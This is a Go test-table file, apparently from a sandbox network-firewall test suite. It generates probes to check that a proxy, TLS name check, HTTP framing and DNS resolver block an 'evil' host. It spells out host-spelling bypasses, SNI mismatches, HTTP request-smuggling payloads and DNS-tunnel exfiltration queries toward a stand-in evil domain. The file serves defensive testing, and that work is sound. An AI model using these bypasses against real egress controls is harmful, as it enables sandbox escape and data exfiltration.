//go:build linux

package attack

import (
	"fmt"
	"strconv"
	"strings"
)

// hostRows are NET-04: one host for the check and another for the connection. In the control,
// malformed requests go through the careless proxy. Mere alternative spellings reach evil if no
// rule denies it.
func hostRows() []row {
	const source = "OpenShell#1498, suna#6096, MCKRUZ#649"
	connect := func(place string) []string {
		return []string{"tcp {proxy}", `send CONNECT ` + place + ` HTTP/1.1\r\nHost: ` + place + `\r\n\r\n`, "want  200"}
	}
	forward := func(host string) []string {
		return []string{"tcp {proxy}", `send GET http://` + host + `/ HTTP/1.1\r\nHost: ` + host + `\r\nConnection: close\r\n\r\n`}
	}
	socks := func(host, port string) []string { return []string{"tcp {socks}", "socks " + host + " " + port} }
	then := func(steps []string, more ...string) []string { return talk(append(steps, more...)...) }
	below := func(c *scene) {
		c.allow("*.{zone}:443", "*.{zone}:80", "*.{zone}:{service}")
		c.deny("evil.{zone}")
	}
	undenied := func(c *scene) { c.spec.Network.Rules.Deny = nil }
	var list []row

	for _, spelling := range []struct{ variant, host string }{
		{"as it is", "{evil}"}, {"upper case", "EVIL.{zone}"}, {"mixed case", "eViL.{zone}"}, {"trailing dot", "{evil}."}, {"upper case and trailing dot", "EVIL.{zone}."},
	} {
		add := func(front string, words []string) {
			list = append(list, row{id: "NET-04", variant: spelling.variant + ", " + front, source: source, walls: layers(rules), told: "denied_rule unlisted",
				prepare: below, lift: undenied, probe: words})
		}
		add("CONNECT", then(connect(spelling.host+":443"), "tls {evil}", getEvil, "want"))
		add("absolute-form", then(forward(spelling.host), "want"))
		add("SOCKS", then(socks(spelling.host, "443"), "tls {evil}", getEvil, "want"))
		labels := strings.ReplaceAll(strings.TrimSuffix(spelling.host, "."), "{evil}", "{evil/}")
		labels = strings.NewReplacer(".{zone}", "/{zone/}").Replace(labels)
		add("name service", talk("udp {dns}", "ask 1 "+labels, "reach 443", "tls {evil}", getEvil, "want"))
	}
	for _, form := range []struct{ variant, host string }{
		{"zero byte", `{evil}\x00.good.{zone}`}, {"zero byte at the end", `{evil}\x00`}, {"user before the host", `good.{zone}@{evil}`},
		{"percent-encoding", `%65vil.{zone}`}, {"percent-encoded dot", `evil%2e{zone}`}, {"percent-encoded zero byte", `{evil}%00.good.{zone}`},
		{"fullwidth letter", `ｅvil.{zone}`}, {"ideographic full stop", `evil。{zone}`}, {"soft hyphen", "ev\u00adil.{zone}"},
		{"brackets around a name", `[{evil}]`}, {"two trailing dots", `{evil}..`}, {"tab behind the host", `{evil}\t`}, {"zone behind a name", `{evil}%25eth0`},
	} {
		add := func(front string, words []string) {
			list = append(list, row{id: "NET-04", variant: form.variant + ", " + front, source: source, walls: layers("canonical hosts"),
				prepare: func(c *scene) { below(c); undenied(c); c.deny("{evil}") }, bare: true, probe: words})
		}
		add("CONNECT", then(connect(form.host+":443"), "tls {evil}", getEvil, "want"))
		add("absolute-form", then(forward(form.host), "want"))
		if !strings.Contains(form.variant, "brackets") && !strings.Contains(form.variant, "dots") {
			add("SOCKS", then(socks(form.host, "443"), "tls {evil}", getEvil, "want"))
		}
	}
	for _, form := range []struct{ variant, labels string }{
		{"zero byte", `{evil}\x00/{good/}`}, {"dots in a label", `{evil}`}, {"dots and the zone", `{evil}\x00/{zone/}`},
	} {
		list = append(list, row{id: "NET-04", variant: form.variant + ", name service", source: source, walls: layers("canonical hosts"), prepare: below, bare: true,
			probe: talk("udp {dns}", "ask 1 "+form.labels)})
	}
	for _, form := range []struct{ variant, host string }{
		{"decimal IPv4", "2130706433"}, {"hexadecimal IPv4", "0x7f000001"}, {"octal IPv4", "0177.0.0.01"}, {"short IPv4", "127.1"},
		{"hexadecimal parts", "0x7f.0.0.1"}, {"mapped IPv4", "[::ffff:127.0.0.1]"}, {"IPv6 with a zone", "[::1%25lo]"}, {"IPv6 with a bare zone", "[::1%lo]"},
	} {
		add := func(front string, words []string) {
			list = append(list, row{id: "NET-04", variant: form.variant + ", " + front, source: source, walls: layers("canonical hosts", classes),
				prepare: allow("*.{zone}:{service}", "0.0.0.0/0:{service}", "[::/0]:{service}"), bare: true, probe: words})
		}
		add("CONNECT", then(connect(form.host+":{service}"), "send hello", "want"))
		add("absolute-form", then(forward(form.host+":{service}"), "want"))
		if !strings.HasPrefix(form.host, "[") {
			add("SOCKS", then(socks(form.host, "{service}"), "send hello", "want"))
		}
	}
	list = append(list,
		row{id: "NET-04", variant: "another port", source: source, walls: layers(rules), told: "unlisted", prepare: allow("{good}:443"), lift: allow("{good}:22"),
			probe: then(connect("{good}:22"), "send hello", "want")},
		row{id: "NET-04", variant: "another port, SOCKS", source: source, walls: layers(rules), told: "unlisted", prepare: allow("{good}:443"), lift: allow("{good}:22"),
			probe: then(socks("{good}", "22"), "send hello", "want")},
		row{id: "NET-04", variant: "another port, absolute-form", source: source, walls: layers(rules), told: "unlisted", prepare: allow("{good}:443"), lift: allow("{good}:22"),
			probe: then(forward("{good}:22"), "want")},
		row{id: "NET-04", variant: "absolute-form and another Host", source: source, walls: layers(hostCheck), prepare: allow("{good}:80"), bare: true,
			probe: talk("tcp {proxy}", `send GET http://{good}/ HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n`, "want")},
		row{id: "NET-04", variant: "user in an absolute URL", source: source, walls: layers("canonical hosts"), prepare: allow("{good}:80"), bare: true,
			probe: talk("tcp {proxy}", `send GET http://{good}@{evil}/ HTTP/1.1\r\nHost: {good}\r\nConnection: close\r\n\r\n`, "want")},
		row{id: "NET-04", variant: "backslash in an absolute URL", source: source, walls: layers("canonical hosts"), prepare: allow("{good}:80"), bare: true,
			probe: talk("tcp {proxy}", `send GET http://{good}\\@{evil}/ HTTP/1.1\r\nHost: {good}\r\nConnection: close\r\n\r\n`, "want")},
	)
	for variant, port := range map[string]string{"port beyond 65535": "65558", "port far beyond": "4294967318", "port with a sign": "+22", "port with zeros": "0022", "port with a space": " 22"} {
		list = append(list, row{id: "NET-04", variant: variant, source: source, walls: layers("canonical hosts", rules), prepare: allow("{good}:443"), bare: true,
			probe: then(connect("{good}:"+port), "send hello", "want")})
	}
	return list
}

// tlsRows are NET-05: TLS for another host than the connection's. No byte of it may reach good.
func tlsRows() []row {
	const source = "gh-aw-firewall#8878, microsandbox#709"
	untouched := func(rules ...string) func(*scene) { return all(allow(rules...), alarm(anyByte)) }
	var list []row
	add := func(variant, told string, prepare func(*scene), steps ...string) {
		list = append(list, row{id: "NET-05", variant: variant, source: source, walls: layers(nameCheck), told: told, prepare: prepare, bare: true, effect: reached, probe: talk(steps...)})
	}
	const answer = `want \x03`
	for _, h := range []struct{ variant, hello, told string }{
		{"another name", "plain {evil}", "name_mismatch"}, {"no name", "nameless", "no_name"}, {"an empty name", "empty-name", "no_name bad_tls"},
		{"zero byte in the name", "zero-byte {good} {evil}", "bad_tls name_mismatch"}, {"two names", "two-names {good} {evil}", "bad_tls name_mismatch"},
		{"two name extensions", "two-extensions {good} {evil}", "bad_tls name_mismatch"}, {"a name of another type", "other-type {good}", "bad_tls no_name"},
		{"ECH with another outer name", "ech {evil}", "encrypted_name name_mismatch"}, {"a name split over records", "split {evil}", "name_mismatch"},
		{"byte by byte", "drip {evil}", "name_mismatch"}, {"an empty record first", "empty-record {evil}", "bad_tls name_mismatch"},
		{"an alert first", "alert-first {evil}", "bad_tls"}, {"two messages in a record", "two-hellos {good} {evil}", "bad_tls name_mismatch"},
		{"SSL 2 hello", "sslv2", "bad_tls"}, {"a wrong length", "long-length {good}", "bad_tls"},
	} {
		add(h.variant, h.told, untouched("{good}:443"), "tcp {@good:443}", "hello "+h.hello, answer)
	}
	const connect = `send CONNECT {good}:443 HTTP/1.1\r\nHost: {good}:443\r\n\r\n`
	for _, h := range []struct{ variant, hello, told string }{
		{"another name", "plain {evil}", "name_mismatch"}, {"no name", "nameless", "no_name"}, {"ECH", "ech {evil}", "encrypted_name name_mismatch"},
		{"a warning before", "alert-first {evil}", "bad_tls"}, {"an empty change of ciphers before", "cipher-first {evil}", "bad_tls"}, {"an odd version", "odd-version {evil}", "bad_tls"},
	} {
		add(h.variant+", CONNECT", h.told, untouched("{good}:443"), "tcp {proxy}", connect, "want  200", "hello "+h.hello, answer)
		add(h.variant+", SOCKS", h.told, untouched("{good}:443"), "tcp {socks}", "socks {good} 443", "hello "+h.hello, answer)
		add(h.variant+", another port", h.told, untouched("{good}:8080"), "tcp {@good:8080}", "hello "+h.hello, `send \r\n\r\n`, "want HTTP")
	}
	const retry = `want \xcf\x21\xad\x74\xe5` // the random of a HelloRetryRequest
	second := all(allow("{good}:443"), alarm(evilName))
	add("another name in the second hello", "name_mismatch", second, "tcp {@good:443}", "hello retry {good}", retry, "hello retry {evil}", answer)
	add("another name in the second hello, CONNECT", "name_mismatch", second, "tcp {proxy}", connect, "want  200", "hello retry {good}", retry, "hello retry {evil}", answer)
	add("another name in the second hello, SOCKS", "name_mismatch", second, "tcp {socks}", "socks {good} 443", "hello retry {good}", retry, "hello retry {evil}", answer)
	add("no TLS", "bad_tls", untouched("{good}:443"), "tcp {@good:443}", getGood, "want HTTP")
	add("no TLS, CONNECT", "bad_tls second_request", untouched("{good}:443"), "tcp {proxy}", connect, "want  200", getGood, "want HTTP")
	add("another name to an address", "name_mismatch", untouched("{good4}:443"), "tcp {@good4:443}", "hello plain {evil}", answer)
	add("TLS on the port of HTTP", "bad_http", untouched("{good}:80"), "tcp {@good:80}", "hello plain {good}", `send \r\n\r\n`, "want HTTP")

	inspected := func(c *scene) { c.inspect(nil, nil) }
	for _, h := range []struct {
		variant, told string
		steps         []string
	}{
		{"Host is another, inspected", "host_mismatch", []string{"tls {good} http/1.1", getEvil, "want"}},
		{"second Host is another, inspected", "host_mismatch", []string{
			"tls {good} http/1.1", `send GET / HTTP/1.1\r\nHost: {good}\r\n\r\n`, "want fine", getEvil, "want",
		}},
		{"absolute-form, inspected", "host_mismatch bad_http", []string{"tls {good} http/1.1", `send GET https://{evil}/ HTTP/1.1\r\nHost: {good}\r\nConnection: close\r\n\r\n`, "want"}},
		{"CONNECT, inspected", "host_mismatch bad_http method", []string{"tls {good} http/1.1", `send CONNECT {evil}:443 HTTP/1.1\r\nHost: {evil}:443\r\nConnection: close\r\n\r\n`, "want"}},
		{":authority of a second stream", "host_mismatch", []string{"tls {good} h2", "h2 :authority={good}", "want fine", "h2 :authority={evil}", "want"}},
		{"host in place of :authority", "host_mismatch", []string{"tls {good} h2", "h2 host={evil}", "want"}},
		{":authority with a port", "host_mismatch bad_http", []string{"tls {good} h2", "h2 :authority={evil}:443", "want"}},
		{"CONNECT on a stream", "host_mismatch bad_http method", []string{"tls {good} h2", "h2 :method=CONNECT !:scheme !:path :authority={evil}:443", "want"}},
	} {
		list = append(list, row{id: "NET-05", variant: h.variant, source: source, walls: layers(hostCheck), told: h.told, prepare: inspected, bare: true,
			probe: talk(append([]string{"tcp {@good:443}"}, h.steps...)...)})
	}
	return list
}

// httpRows are NET-06: further requests that the proxy does not inspect.
func httpRows() []row {
	const source = "request smuggling"
	const smuggled = `GET /forbidden HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n`
	length := size(smuggled)
	var list []row
	add := func(variant, told string, port int, steps ...string) {
		list = append(list, row{id: "NET-06", variant: variant, source: source, walls: layers(framing), told: told, prepare: allow("{good}:80", "{good}:8080"), bare: true,
			probe: talk(append([]string{fmt.Sprintf("tcp {@good:%d}", port)}, steps...)...)})
	}
	post := func(fields string) string { return `send POST / HTTP/1.1\r\nHost: {good}\r\n` + fields + `\r\n\r\n` }
	for _, te := range []struct{ variant, field string }{
		{"", `Transfer-Encoding: chunked`}, {", space before the colon", `Transfer-Encoding : chunked`}, {", another coding", `Transfer-Encoding: xchunked`},
		{", two codings", `Transfer-Encoding: chunked, identity`}, {", folded", `Transfer-Encoding:\r\n chunked`}, {", a tab", `Transfer-Encoding:\tchunked`},
		{", a vertical tab", `Transfer-Encoding: \x0bchunked`}, {", two fields", `Transfer-Encoding: identity\r\nTransfer-Encoding: chunked`},
		{", leading space", `X: y\r\n Transfer-Encoding: chunked`}, {", a bare line feed", `X: y\nTransfer-Encoding: chunked`},
	} {
		add("length and chunks"+te.variant, "", 80, post(fmt.Sprintf(`Content-Length: %d\r\n`, length+5)+te.field)+`0\r\n\r\n`+smuggled, "want fine", "want")
	}
	add("chunks and length", "", 8080, post(`Content-Length: 4\r\nTransfer-Encoding: chunked`)+fmt.Sprintf(`%x\r\n`, length)+smuggled+`\r\n0\r\n\r\n`, "want fine", "want")
	add("two lengths", "", 8080, post(fmt.Sprintf(`Content-Length: %d\r\nContent-Length: 0`, length))+smuggled, "want fine", "want")
	add("a pipelined second request", "host_mismatch", 80, `send GET / HTTP/1.1\r\nHost: {good}\r\n\r\n`+smuggled, "want fine", "want")
	add("a second request", "host_mismatch", 80, `send GET / HTTP/1.1\r\nHost: {good}\r\n\r\n`, "want fine", "send "+smuggled, "want")
	add("another Host", "host_mismatch", 80, "send "+smuggled, "want")
	add("two Host fields", "", 80, `send GET / HTTP/1.1\r\nHost: {evil}\r\nHost: {good}\r\nConnection: close\r\n\r\n`, "want")
	add("Host behind a bare line feed", "", 80, `send GET / HTTP/1.1\r\nX: y\nHost: {evil}\r\nHost: {good}\r\nConnection: close\r\n\r\n`, "want")
	add("Host and a space", "", 80, `send GET / HTTP/1.1\r\nHost : {evil}\r\nHost: {good}\r\nConnection: close\r\n\r\n`, "want")
	add("absolute-form to a server", "", 80, `send GET http://{evil}/ HTTP/1.1\r\nHost: {good}\r\nConnection: close\r\n\r\n`, "want")
	add("HTTP/1.0 without Host", "", 80, `send GET http://{evil}/ HTTP/1.0\r\n\r\n`, "want")
	add("Upgrade to WebSocket", "", 80, `send GET /chat HTTP/1.1\r\nHost: {good}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: cGFseXJhcGFseXJhcGFseQ==\r\n\r\n`, "want 101", "send "+smuggled, "want")
	add("Upgrade to HTTP/2", "", 80, `send GET /chat HTTP/1.1\r\nHost: {good}\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`, "want 101", "send "+smuggled, "want")
	add("101 that nobody asked for", "", 80, `send GET /upgrade HTTP/1.1\r\nHost: {good}\r\n\r\n`, "want 101", "send "+smuggled, "want")
	add("Host in a trailer", "", 80, post(`Transfer-Encoding: chunked\r\nTrailer: Host\r\nConnection: close`)+`0\r\nHost: {evil}\r\n\r\n`, "want")
	add("Expect and a body", "", 80, post(fmt.Sprintf(`Expect: 100-continue\r\nContent-Length: %d`, length))+smuggled, "want fine", getGood, "want")
	add("CONNECT to a server", "method bad_http host_mismatch", 80, `send CONNECT {evil}:80 HTTP/1.1\r\nHost: {evil}:80\r\n\r\n`, "want")
	for _, opening := range []struct {
		variant string
		steps   []string
	}{
		{"empty lines before a request", []string{`send \r\n\r\n` + smuggled}}, {"white space before a request", []string{`send  ` + smuggled}},
		{"a method in pieces", []string{"send BRE", "pause 50ms", "send W" + strings.TrimPrefix(smuggled, "GET")}},
		{"a method in lower case", []string{"send get" + strings.TrimPrefix(smuggled, "GET")}}, {"a request byte by byte", []string{"drip " + smuggled}},
		{"tabs in a request line", []string{`send GET\t/forbidden\tHTTP/1.1` + strings.TrimPrefix(smuggled, "GET /forbidden HTTP/1.1")}},
	} {
		add(opening.variant+", another port", "", 8080, append(opening.steps, "want")...)
	}
	add("a chunk extension", "", 8080, post(`Content-Length: 0\r\nTransfer-Encoding: chunked`)+`0;x=\r\n`+smuggled, "want fine", "want")

	proxied := func(variant, told string, steps ...string) {
		list = append(list, row{id: "NET-06", variant: variant, source: source, walls: layers(framing), told: told, prepare: allow("{good}:80"), bare: true, probe: talk(steps...)})
	}
	const first = `send GET http://{good}/ HTTP/1.1\r\nHost: {good}\r\n\r\n`
	proxied("a second request by the proxy", "", "tcp {proxy}", first, "want fine", `send GET http://{evil}/ HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n`, "want")
	proxied("CONNECT as a second request", "", "tcp {proxy}", first, "want fine", `send CONNECT {evil}:80 HTTP/1.1\r\nHost: {evil}:80\r\n\r\n`, "want")
	proxied("another Host in a tunnel", "host_mismatch", "tcp {proxy}", `send CONNECT {good}:80 HTTP/1.1\r\nHost: {good}:80\r\n\r\n`, "want  200", getEvil, "want")
	proxied("a second request in a tunnel", "host_mismatch", "tcp {proxy}", `send CONNECT {good}:80 HTTP/1.1\r\nHost: {good}:80\r\n\r\n`, "want  200",
		`send GET / HTTP/1.1\r\nHost: {good}\r\n\r\n`, "want fine", getEvil, "want")
	proxied("another Host by SOCKS", "host_mismatch", "tcp {socks}", "socks {good} 80", getEvil, "want")
	proxied("origin-form by the proxy", "", "tcp {proxy}", `send GET / HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n`, "want", "or", "tcp {proxy}", first, "want fine", getEvil, "want")

	return append(list,
		row{id: "NET-06", variant: "HTTP/2 without TLS", source: source, walls: layers(framing), told: "bad_http upgrade", prepare: all(allow("{good}:80"), alarm(anyByte)), bare: true, effect: reached,
			probe: talk("tcp {@good:80}", "h2 :authority={evil}", "want HTTP")},
		row{id: "NET-06", variant: "a giant header", source: source, walls: layers(framing), told: "header_too_large", prepare: all(allow("{good}:80"), alarm(anyByte)), bare: true, effect: reached,
			probe: talk("tcp {@good:80}", `send GET / HTTP/1.1\r\nHost: {good}\r\nConnection: close\r\nX: `, "flood 200000", `send \r\n\r\n`, "want fine")})
}

// size returns the length of a text after expansion and unquoting.
func size(text string) int {
	plain, err := strconv.Unquote(`"` + strings.ReplaceAll(text, "{evil}", "evil.s0000.test") + `"`)
	if err != nil {
		panic(err)
	}
	return len(plain)
}

// dnsRows are NET-08: data sent out in names, and answers other than addresses.
func dnsRows() []row {
	const source = "DNS tunnels"
	var list []row
	grant := allow("{good}:443")
	out := func(variant string, steps ...string) {
		list = append(list, row{id: "NET-08", variant: variant, source: source, walls: layers(resolver), prepare: grant, bare: true, effect: reached, probe: talk(steps...)})
	}
	out("data in a name", "udp {dns}", "ask 1 leak-6b6579/{evil/}")
	out("data in a name below an allowed one", "udp {dns}", "ask 1 leak-6b6579/{good/}")
	out("data in a name, TCP", "tcp {dns}", "ask 1 leak-6b6579/{evil/}")
	out("data in long labels", "udp {dns}", "ask 1 leak-"+strings.Repeat("a", 55)+"/"+strings.Repeat("b", 63)+"/"+strings.Repeat("c", 63)+"/{evil/}")
	out("data in a name, TXT", "udp {dns}", "ask 16 leak-6b6579/{evil/}")
	out("data in a name, PTR", "udp {dns}", "ask 12 leak-6b6579/{evil/}")
	out("data behind a question", "udp {dns}", `packet \x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04evil\x05{site}\x04test\x00\x00\x01\x00\x01`+strings.Repeat("x", 8000))
	list[len(list)-1].silent = true
	in := func(variant, told string, kind, class int, network string) {
		list = append(list, row{id: "NET-08", variant: variant, source: source, walls: layers(resolver), told: told, prepare: grant, bare: true,
			probe: talk(network+" {dns}", fmt.Sprintf("ask %d {good/} %d", kind, class))})
	}
	for name, kind := range map[string]int{"TXT": 16, "ANY": 255, "PTR": 12} {
		in("type "+name, "query_type", kind, 1, "udp")
	}
	for name, kind := range map[string]int{"NULL": 10, "CNAME": 5, "MX": 15, "NS": 2, "SRV": 33, "HTTPS": 65, "SVCB": 64, "a private type": 65300} {
		in("type "+name, "", kind, 1, "udp")
	}
	in("type TXT, TCP", "query_type", 16, 1, "tcp")
	in("a zone transfer", "query_type", 252, 1, "tcp")
	in("class CHAOS", "query_type", 16, 3, "udp")
	return list
}
